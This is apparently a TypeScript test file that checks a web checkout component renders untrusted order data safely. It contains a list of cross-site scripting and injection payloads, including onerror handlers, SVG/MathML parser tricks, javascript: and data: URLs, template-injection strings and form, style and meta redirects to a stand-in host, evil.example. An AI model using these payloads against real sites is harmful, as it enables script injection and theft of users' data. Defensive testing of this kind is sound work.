import { expect } from "@open-wc/testing";
import { CheckoutPage } from "../support/checkout-page.js";
import { keptOrder } from "../support/demo-basket.js";
import { expectHarmless } from "../support/harmless.js";
import { wireItem, wireOffer, wireOrder } from "../support/limio.js";
import { send } from "../demo/demo-client.js";

const RUN = "window.__hostile=1";
/** What a field may hold that somebody else fills in: markup, half of it, templates, and text that only looks odd. */
const PAYLOADS: Readonly<Record<string, string>> = {
  "a script": `<script>${RUN}</script>x`,
  "an image that fails": `<img src=x onerror=${RUN}>x`,
  "an image behind a quote": `"><img src=x onerror=${RUN}>x`,
  "an image behind an apostrophe": `'><img src=x onerror='${RUN}'>x`,
  "markup in entities": `&lt;img src=x onerror=${RUN}&gt;`,
  "markup in entities twice": `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  "an SVG animation": `<svg><animate onbegin=${RUN} attributeName=x dur=1s>x`,
  "an SVG script": `<svg><script href="data:,${RUN}"></script></svg>x`,
  "MathML that changes its parser": `<math><mtext><table><mglyph><style><!--</style><img src onerror=${RUN}>x`,
  "a comment that ends early": `<!--><img src=x onerror=${RUN}>-->x`,
  "noscript with an attribute": `<noscript><p title="</noscript><img src onerror=${RUN}>">x`,
  "a title that ends early": `<title><a title="</title><img src onerror=${RUN}>">x`,
  "a handler on kept markup": `<b onclick=${RUN} onpointerenter=${RUN}>x</b>`,
  "a style on kept markup": `<p style="position:fixed;inset:0">x</p>`,
  "names of ours on kept markup": `<p class="visually-hidden" id="problem" part="proceed" slot="restart">x</p>`,
  "a link": `<a href="javascript:${RUN}">x</a>`,
  "a frame": `<iframe srcdoc="<script>parent.__hostile=1</script>"></iframe>x`,
  "a form that takes names": `<form action="//evil.example"><input name=attributes><button>Pay</button></form>x`,
  "a style sheet": `<style>@import "//evil.example"; :host{display:none}</style>x`,
  "a refresh and a base": `<meta http-equiv=refresh content="0;url=//evil.example"><base href="//evil.example">x`,
  "details that open": `<details open ontoggle=${RUN}>x</details>`,
  "a custom element of ours": `<partner-checkout token-url="//evil.example"></partner-checkout>x`,
  "a template with a shadow root": `<template shadowrootmode=open><script>${RUN}</script></template>x`,
  "a CDATA section": `<![CDATA[<img src=x onerror=${RUN}>]]>x`,
  "plain text that ends": `</p></div></section><h1>x`,
  "markup a thousand deep": `${"<b>".repeat(1000)}x`,
  "a template's expression": "${alert(1)} {{constructor.constructor('alert(1)')()}} lit$x$",
  "an address that runs": `javascript:${RUN}`,
  "an address that is a page": `data:text/html,<script>${RUN}</script>`,
  "a blob's address": "blob:https://evil.example/x",
  "a word that reverses": "\u202Eevil\u202C x",
  "a null and control characters": "a\u0000b\u0007\u001B[31mx",
  "a lone surrogate": "x\uD800",
  "names that objects inherit": "__proto__",
};

async function load(payload: string): Promise<CheckoutPage> {
  const { basketId } = await keptOrder();
  const item = wireItem({
    id: payload,
    name: payload,
    price: { amount: 20, currency: "GBP", summary: { headline: payload, subline: payload } },
    offer: wireOffer(
      { display_name__limio: payload, display_price__limio: payload },
      { id: payload, version: payload, path: payload, name: payload },
      {
        attachments: [{ type: "image/png", url: payload }],
        products: [
          {
            name: payload,
            path: payload,
            attributes: { display_name__limio: `${payload}2`, product_code__limio: payload },
          },
        ],
      },
    ),
  });
  const order = wireOrder([item, wireItem({ id: "other" })], {
    promoCode: payload,
    orderTotal: {
      currency: "GBP",
      orderSubtotal: "30",
      orderTotal: "40",
      taxSummary: [{ taxCode: payload, taxAmount: "2" }],
    },
  });
  const json = {
    id: basketId,
    valid: false,
    state: { order },
    blockedProducts: [{ reason: payload, message: payload, orderItemId: payload }],
    errors: [{ code: payload, message: payload }],
  };
  await send("POST", "/demo/faults", { on: "validate", kind: "json", json });
  const page = await CheckoutPage.place({ heading: payload });
  await page.settled();
  return page;
}

describe("text of somebody else's, in every field at once", () => {
  beforeEach(() => send("POST", "/demo/scenario/new-basket"));

  for (const [what, payload] of Object.entries(PAYLOADS)) {
    it(`does no harm as ${what}`, async () => {
      const { length } = document.querySelectorAll("*");
      const page = await load(payload);
      const { shadowRoot, basket } = page.element;
      expect(page.element.status).to.equal("ready");
      expect(basket?.items[0]?.unavailable).to.equal(false);
      expect(page.lines.length).to.equal(2);
      if (!shadowRoot) throw new Error("There is no shadow root");
      expectHarmless(shadowRoot);
      // Nothing but the element and its wrappers has come onto the page.
      expect(document.querySelectorAll("*").length - length).to.be.at.most(3);
      expect(page.part("total")).to.equal("Total £40.00");
      // Text that is no markup is shown to the letter.
      expect(page.part("heading")).to.equal(payload.replace(/\s+/g, " ").trim());
      expect(page.part("error")).to.contain(payload.replace(/\s+/g, " ").trim());
    });
  }
});
